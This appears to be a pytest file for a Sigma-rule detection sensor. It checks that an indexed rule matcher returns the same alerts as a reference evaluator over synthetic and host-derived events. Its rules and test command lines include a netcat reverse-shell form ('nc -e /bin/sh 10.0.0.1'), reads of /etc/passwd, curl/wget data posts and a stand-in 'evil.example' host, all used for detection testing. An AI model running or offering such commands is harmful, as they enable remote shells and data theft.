"""The literal index (sensor.ruleindex) changes how fast rules run, never what they find: over a
large corpus, RuleSet.match returns exactly the alerts of the reference evaluator, match_all."""
from __future__ import annotations

import random
import re
from pathlib import Path

import psutil
import pytest
import yaml

from sensor.ruleindex import ANY, ASCII_FOLDS, END, EXACT, NONASCII, START, Fields
from sensor.rules import BUILTIN, RuleSet

ROOT = Path(__file__).resolve().parent.parent
SIGMA = ROOT.parent / "shared" / "sigma" / "rules"
needs_sigma = pytest.mark.skipif(not SIGMA.is_dir(), reason=f"SigmaHQ test rules not found at {SIGMA}")

# rules whose conditions the index must read right: every modifier, negations, null and empty values
EDGE_RULES = {
    "contains_cased": {"sel": {"CommandLine|contains|cased": "MiXeD"}, "condition": "sel"},
    "wildcards": {"sel": {"CommandLine": ["*evil?tool*", "run*me", "pre*", "*suf", "a?c*"]}, "condition": "sel"},
    "escaped_star": {"sel": {"CommandLine": r"a\*b"}, "condition": "sel"},
    "all": {"sel": {"CommandLine|contains|all": ["-e", "/bin/sh", "nc"]}, "condition": "sel"},
    "re_alternation": {"sel": {"CommandLine|re": r"-(W|R)\s?[0-9a-f]{2}"}, "condition": "sel"},
    "re_ignorecase": {"sel": {"CommandLine|re|i": r"^curl\s+-F\s"}, "condition": "sel"},
    "re_no_literal": {"sel": {"CommandLine|re": r"^\S{3}$"}, "condition": "sel"},
    "re_repeat": {"sel": {"CommandLine|re": r"(?:ab)+x[yz]{2,}"}, "condition": "sel"},
    "windash": {"sel": {"CommandLine|windash|contains": [" -enc ", " -nop "]}, "condition": "sel"},
    "base64offset": {"sel": {"CommandLine|base64offset|contains": "stratum"}, "condition": "sel"},
    "not_only": {"filter": {"Image|endswith": "/bash"}, "condition": "not filter"},
    "not_not": {"sel": {"Image|endswith": "/python3"}, "condition": "not (not sel)"},
    "null": {"sel": {"ParentImage": None}, "condition": "sel"},
    "empty": {"sel": {"CurrentDirectory": ""}, "condition": "sel"},
    "exists": {"sel": {"ParentCommandLine|exists": False, "Image|startswith": "/usr/"}, "condition": "sel"},
    "one_of_with_filter": {"sel_a": {"CommandLine|contains": "passwd"}, "sel_b": {"Image|endswith": "/cat"},
                           "filter_main": {"User": "root"}, "condition": "1 of sel_* and not 1 of filter_*"},
    "all_of": {"sel_a": {"CommandLine|contains": "tar"}, "sel_b": {"CommandLine|contains": "/tmp/"},
               "condition": "all of sel_*"},
    "or_of_ands": {"a": {"Image|endswith": "/curl", "CommandLine|contains": " -d "},
                   "b": {"Image|endswith": "/wget", "CommandLine|contains": "--post"}, "condition": "a or b"},
    "keywords": {"keywords": ["evil.example", "bad*thing"], "condition": "keywords"},
    "number": {"sel": {"ProcessId|gte": 1}, "condition": "sel"},
    "exact_pid": {"sel": {"ProcessId": 1}, "condition": "sel"},
    "written": {"sel": {"ImageWritten": "true"}, "condition": "sel"},
    "exact_kelvin": {"sel": {"User": "\u212aelvin"}, "condition": "sel"},  # KELVIN SIGN folds to k
    "nonascii_literal": {"sel": {"CommandLine|contains": "st\u00e4dt"}, "condition": "sel"},
}
NET_RULES = {
    "cidr": {"sel": {"DestinationIp|cidr": ["10.0.0.0/8", "fe80::/10"]}, "condition": "sel"},
    "port_and_host": {"sel": {"DestinationPort": 4444, "DestinationHostname|endswith": ".onion"}, "condition": "sel"},
    "initiated": {"sel": {"Initiated": "true", "DestinationIp|startswith": "192.168."}, "condition": "sel"},
}
# characters that fold like ASCII under re.IGNORECASE or str.lower(), but are not ASCII
FOLDS = {"k": "\u212a", "s": "\u017f", "i": "\u0130"}


def _write_rules(tmp_path):
    for group, category in ((EDGE_RULES, "process_creation"), (NET_RULES, "network_connection")):
        for name, det in group.items():
            doc = {"title": name, "id": f"00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}",
                   "logsource": {"category": category, "product": "linux"}, "detection": det, "level": "high"}
            (tmp_path / f"{name}.yml").write_text(yaml.safe_dump(doc, allow_unicode=True))
    return tmp_path


def proc(exe, cmd, pexe=None, pcmd=None, **more) -> dict:
    ev = {"event": {"category": ["process"], "action": "exec", "id": "e", "sequence": 1},
          "process": {"executable": exe, "command_line": cmd, "args": cmd.split() if isinstance(cmd, str) else [], **more},
          "user": {"name": "root"}}
    if pexe is not None or pcmd is not None:
        ev["process"]["parent"] = {"executable": pexe, "command_line": pcmd}
    return ev


def host_events() -> list[dict]:
    """Process events from this host's real processes: executable, command line, parent's."""
    out = []
    by_pid = {}
    for p in psutil.process_iter(["pid", "ppid", "exe", "cmdline", "cwd", "username"]):
        by_pid[p.info["pid"]] = p.info
    for info in by_pid.values():
        parent = by_pid.get(info["ppid"]) or {}
        cmd = " ".join(info["cmdline"] or [])
        ev = proc(info["exe"] or "", cmd, parent.get("exe"), " ".join(parent.get("cmdline") or []) or None,
                  pid=info["pid"], working_directory=info["cwd"])
        ev["user"]["name"] = info["username"]
        out.append(ev)
    return out


def _variants(text: str, rng: random.Random) -> list[str]:
    """Case, position and folding variants of a text a rule looks for."""
    out = [text, text.upper(), text.swapcase(), f"x {text} y", f"{text} tail", f"head {text}",
           text.replace("*", "").replace("?", "q"), text + "\x03", "\x02" + text, text[1:], text[:-1]]
    folded = "".join(FOLDS.get(c, c) if rng.random() < 0.5 else c for c in text)
    out += [folded, folded.upper()]
    return out


def literal_events(rules: RuleSet, rng: random.Random, variants: int) -> list[dict]:
    """Events built from every rule's own literals, so that rules do fire, in many variants."""
    out = []
    for r in rules.by_category.get("process_creation", []):
        literals: dict[str, list[str]] = {}
        for clause in r.needs or ():
            for t in clause:
                literals.setdefault(t.path, []).append(t.literal)
        if not literals:
            continue
        for variant in range(variants):
            fields = {}
            for path, lits in literals.items():
                picked = rng.sample(lits, min(len(lits), 3)) if variant else lits
                text = " ".join(picked).replace("\x02", "").replace("\x03", "")
                fields[path] = rng.choice(_variants(text, rng))
            ev = proc(fields.get("process.executable", "/usr/bin/" + rng.choice(["bash", "sh", "cat", "curl"])),
                      fields.get("process.command_line", "x"),
                      fields.get("process.parent.executable"), fields.get("process.parent.command_line"),
                      working_directory=fields.get("process.working_directory"))
            if "process.executable_written" in fields:
                ev["process"]["executable_written"] = rng.choice([True, "TRUE", False])
            out.append(ev)
    return out


def edge_events(rng: random.Random) -> list[dict]:
    cmds = ["MiXeD case", "mixed case", "evilXtool --x", "run it me", "runme", "prefix", "the suf", "abc", "a*b", "aXb",
            "nc -e /bin/sh 10.0.0.1", "NC -E /BIN/SH", "pnscan -W 4f", "pnscan -r4f", "curl -F x", "CURL  -F y",
            "abc", "ababxyz", "abxz", "ps /enc x", "ps \u2013enc x ", "ps -nop x", "echo c3RyYXR1bSt0Y3A6Ly9",
            "cat /etc/passwd", "tar -czf /tmp/x.tgz /etc", "curl -d x", "wget --post-data=x", "curl evil.example",
            "bad-thing", "BAD thing", "st\u00e4dt", "ST\u00c4DT", "", "\x02abc\x03", "line\nbreak -e /bin/sh nc"]
    out = []
    for cmd in cmds:
        for exe in ("/usr/bin/bash", "/usr/bin/cat", "/usr/bin/curl", "/usr/bin/wget", "/usr/bin/python3", "/opt/x"):
            out.append(proc(exe, cmd, "/bin/sh", rng.choice([None, "sh -c x"])))
    odd = [proc("/usr/bin/cat", ["cat", "/etc/passwd"]),  # a list where a string is expected
           proc(["/usr/bin/curl"], "curl -d x"), proc("/usr/bin/cat", {"x": 1}),
           proc("/usr/bin/cat", 12345), proc("/usr/bin/cat", "cat", working_directory=""),
           proc("/usr/bin/cat", "cat /etc/passwd", pid=1), proc(None, None),
           proc("/usr/bin/python3", "x", executable_written=True), proc("/bin/sh", "x", executable_written="True")]
    flat = proc("/usr/bin/cat", "benign")
    flat["process.command_line"] = "cat /etc/passwd"  # a flattened dotted key wins, as in schema.get
    odd.append(flat)
    for user in ("kelvin", "KELVIN", "\u212aelvin", "root"):
        ev = proc("/bin/x", "x")
        ev["user"]["name"] = user
        odd.append(ev)
    return out + odd


def net_events(rng: random.Random) -> list[dict]:
    out = []
    for ip in ("10.1.2.3", "11.0.0.1", "fe80::1", "192.168.1.5", "not-an-ip", None):
        for port in (4444, 443, "4444", None):
            for domain in ("x.onion", "X.ONION", "example.org", None):
                for direction in ("egress", "ingress"):
                    out.append({"event": {"category": ["network"], "action": rng.choice(["connect", "accept"]),
                                          "dataset": "network"},
                                "destination": {"ip": ip, "port": port, "domain": domain},
                                "network": {"direction": direction, "transport": "tcp"},
                                "process": {"executable": "/usr/bin/nc", "command_line": "nc x"}})
    return out


def assert_same_alerts(rules: RuleSet, corpus: list[dict]) -> tuple[int, int, set]:
    """Every event: the indexed engine's alerts are the reference's, in the same order. Returns
    the alert count, the rules evaluated, and the rules that fired."""
    alerts = evaluated = 0
    fired = set()
    for ev in corpus:
        want = [r.id for r in rules.match_all(ev)]
        assert [r.id for r in rules.match(ev)] == want, ev
        alerts += len(want)
        fired.update(want)
        flat = Fields()
        flat.event = ev
        cat = "process_creation" if ev["event"]["category"] == ["process"] else "network_connection"
        evaluated += len(rules.index[cat].candidates(ev, flat))
    return alerts, evaluated, fired


def corpus_for(rules: RuleSet, rng: random.Random, variants: int, injected: int) -> list[dict]:
    host = host_events()
    corpus = host + literal_events(rules, rng, variants) + edge_events(rng) + net_events(rng)
    # the host's command lines with rule literals dropped in at the start, the middle and the end
    literals = sorted({t.literal for r in rules.rules for c in r.needs or () for t in c if t.literal})
    for ev in (host * (1 + injected // len(host)))[:injected]:
        cmd = ev["process"]["command_line"]
        lit = rng.choice(literals)
        for text in (lit + cmd, cmd + " " + lit.upper(), cmd[:10] + lit + cmd[10:]):
            corpus.append({**ev, "process": {**ev["process"], "command_line": text}})
    return corpus


@needs_sigma
def test_same_alerts_with_the_shared_linux_rules_and_edge_cases(tmp_path):
    rules = RuleSet.load([SIGMA / "linux", BUILTIN, _write_rules(tmp_path)])
    corpus = corpus_for(rules, random.Random(7), variants=20, injected=3000)
    assert len(corpus) > 10_000
    alerts, evaluated, fired = assert_same_alerts(rules, corpus)
    edge = {r.id for r in rules.rules if r.title in EDGE_RULES or r.title in NET_RULES}
    assert alerts > 2000 and len(fired & edge) >= len(edge) - 2  # the corpus reaches the edge rules
    shared = {r.id for r in rules.by_category["process_creation"] if r.path.startswith(str(SIGMA))}
    assert len(shared & fired) > len(shared) // 2, (len(shared & fired), len(shared))


@needs_sigma
def test_same_alerts_with_a_thousand_sigmahq_rules():
    """SigmaHQ's Windows process_creation rules, evaluated on the same schema, as the Windows
    sensor will: the biggest real sample of modifiers (windash, base64offset, re, cased)."""
    rules = RuleSet.load([SIGMA / "linux", SIGMA / "windows" / "process_creation", BUILTIN],
                         products=("linux", "windows"))
    assert len(rules.rules) > 1000
    corpus = corpus_for(rules, random.Random(11), variants=1, injected=200)
    alerts, evaluated, fired = assert_same_alerts(rules, corpus)
    assert alerts > 1000 and len(fired) > 300
    # and the index does its job: a small share of the rules is evaluated per event, even on
    # events stuffed with rule literals, and next to none on this host's own
    assert evaluated < 0.05 * len(corpus) * len(rules.rules), evaluated / len(corpus)
    host = host_events()
    _, evaluated, _ = assert_same_alerts(rules, host)
    assert evaluated < 0.01 * len(host) * len(rules.rules), evaluated / len(host)


def test_ascii_folds_are_all_there_are():
    """The non-ASCII characters that a case-insensitive match takes for ASCII ones: the index
    relies on there being no others (a Unicode update could add one)."""
    ascii_class = re.compile(r"[\x00-\x7f]", re.IGNORECASE)
    folds = {chr(c) for c in range(128, 0x110000)
             if ascii_class.fullmatch(chr(c)) or chr(c).lower().isascii()}
    assert folds == set(ASCII_FOLDS)


def test_condition_analysis_is_sound_on_its_own_terms(tmp_path):
    """What the index derives for the edge rules, checked by hand: a rule that can match with no
    literal present is always evaluated; anchors follow the glob."""
    rules = RuleSet.load([_write_rules(tmp_path)])
    by = {r.title: r for r in rules.rules}
    for name in ("not_only", "null", "empty", "re_no_literal", "number", "exact_pid", "exists", "cidr"):
        if name == "exists":  # ParentCommandLine|exists: false AND Image|startswith: the Image literal
            assert {(t.literal, t.anchor) for c in by[name].needs for t in c} == {("/usr/", START)}
            continue
        assert by[name].needs is None, name
    assert {(t.literal, t.anchor) for t in by["not_not"].needs[0]} == {("/python3", END)}
    assert {(t.literal, t.anchor) for t in by["re_alternation"].needs[0]} == {("-w", ANY), ("-r", ANY)}
    assert {t.literal for t in by["re_ignorecase"].needs[0]} == {"curl"}
    assert {t.literal for t in by["re_repeat"].needs[0]} == {"ab"}  # the repeated group: at least once
    assert len(by["all"].needs) == 2  # two of the three literals are required
    assert {(t.literal, t.anchor) for t in by["written"].needs[0]} == {("true", EXACT)}
    assert {(t.literal, t.anchor) for t in by["exact_kelvin"].needs[0]} == {("elvin", END)}  # K folds to k
    assert {(t.literal, t.anchor) for t in by["nonascii_literal"].needs[0]} == {("", NONASCII)}
    assert {len(c) for c in by["or_of_ands"].needs} == {2}  # (curl or wget) and (-d or --post)
    wild = {(t.literal, t.anchor) for t in by["wildcards"].needs[0]}
    assert wild == {("evil", ANY), ("run", START), ("pre", START), ("suf", END), ("a", START)}, wild
    assert re.fullmatch(r"[a-z0-9+/=]+", min((t.literal for t in by["base64offset"].needs[0]), key=len))
